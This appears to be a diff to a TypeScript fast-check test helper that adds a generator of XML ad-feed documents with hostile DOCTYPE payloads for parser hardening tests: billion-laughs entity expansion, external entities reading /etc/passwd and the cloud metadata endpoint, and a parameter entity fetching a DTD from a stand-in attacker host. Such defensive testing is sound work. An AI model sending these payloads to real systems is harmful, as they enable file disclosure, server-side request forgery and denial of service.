@@ -111,3 +111,24 @@ export const xmlText = (maxLength = 30) =>
 export const httpUrl = fc
   .record({ scheme: fc.constantFrom('http', 'https'), host: fc.constantFrom('ads.example.com', 'cdn.example.net', 'tr.example.org', 'x.test'), path: fc.array(fc.constantFrom('a', 'b', 'vast', 'v1', 'é', '%20', 'x.mp4'), { maxLength: 4 }), q: fc.array(fc.tuple(fc.constantFrom('a', 'cb', 'id'), fc.constantFrom('1', '[CACHEBUSTING]', 'x y', '%2F')), { maxLength: 3 }) })
   .map(({ scheme, host, path, q }) => `${scheme}://${host}/${path.join('/')}${q.length ? '?' + q.map(([k, v]) => `${k}=${v}`).join('&') : ''}`);
+
+/** DOCTYPE variants: billion laughs, external entities, parameter entities, odd case, after a prolog. */
+export const doctypeDoc = fc
+  .record({
+    prolog: fc.constantFrom('', '\ufeff', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n', '<?xml-stylesheet href="x"?>'),
+    keyword: fc.constantFrom('<!DOCTYPE', '<!doctype', '<!DocType'),
+    root: fc.constantFrom('VAST', 'VMAP', 'rss', 'x'),
+    body: fc.constantFrom(
+      '[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]',
+      'SYSTEM "file:///etc/passwd"',
+      '[<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]',
+      '[<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]',
+      '',
+    ),
+    use: fc.constantFrom('&d;', '&xxe;', '', '&a;'),
+    inside: fc.boolean(),
+  })
+  .map((r) => {
+    const doctype = `${r.keyword} ${r.root} ${r.body}>\n`;
+    return `${r.prolog}${r.inside ? '' : doctype}<${r.root} version="3.0">${r.inside ? doctype : ''}<Ad id="1"><InLine><AdTitle>${r.use}</AdTitle></InLine></Ad><channel><item><guid>g</guid><title>${r.use}</title></item></channel></${r.root}>`;
+  });
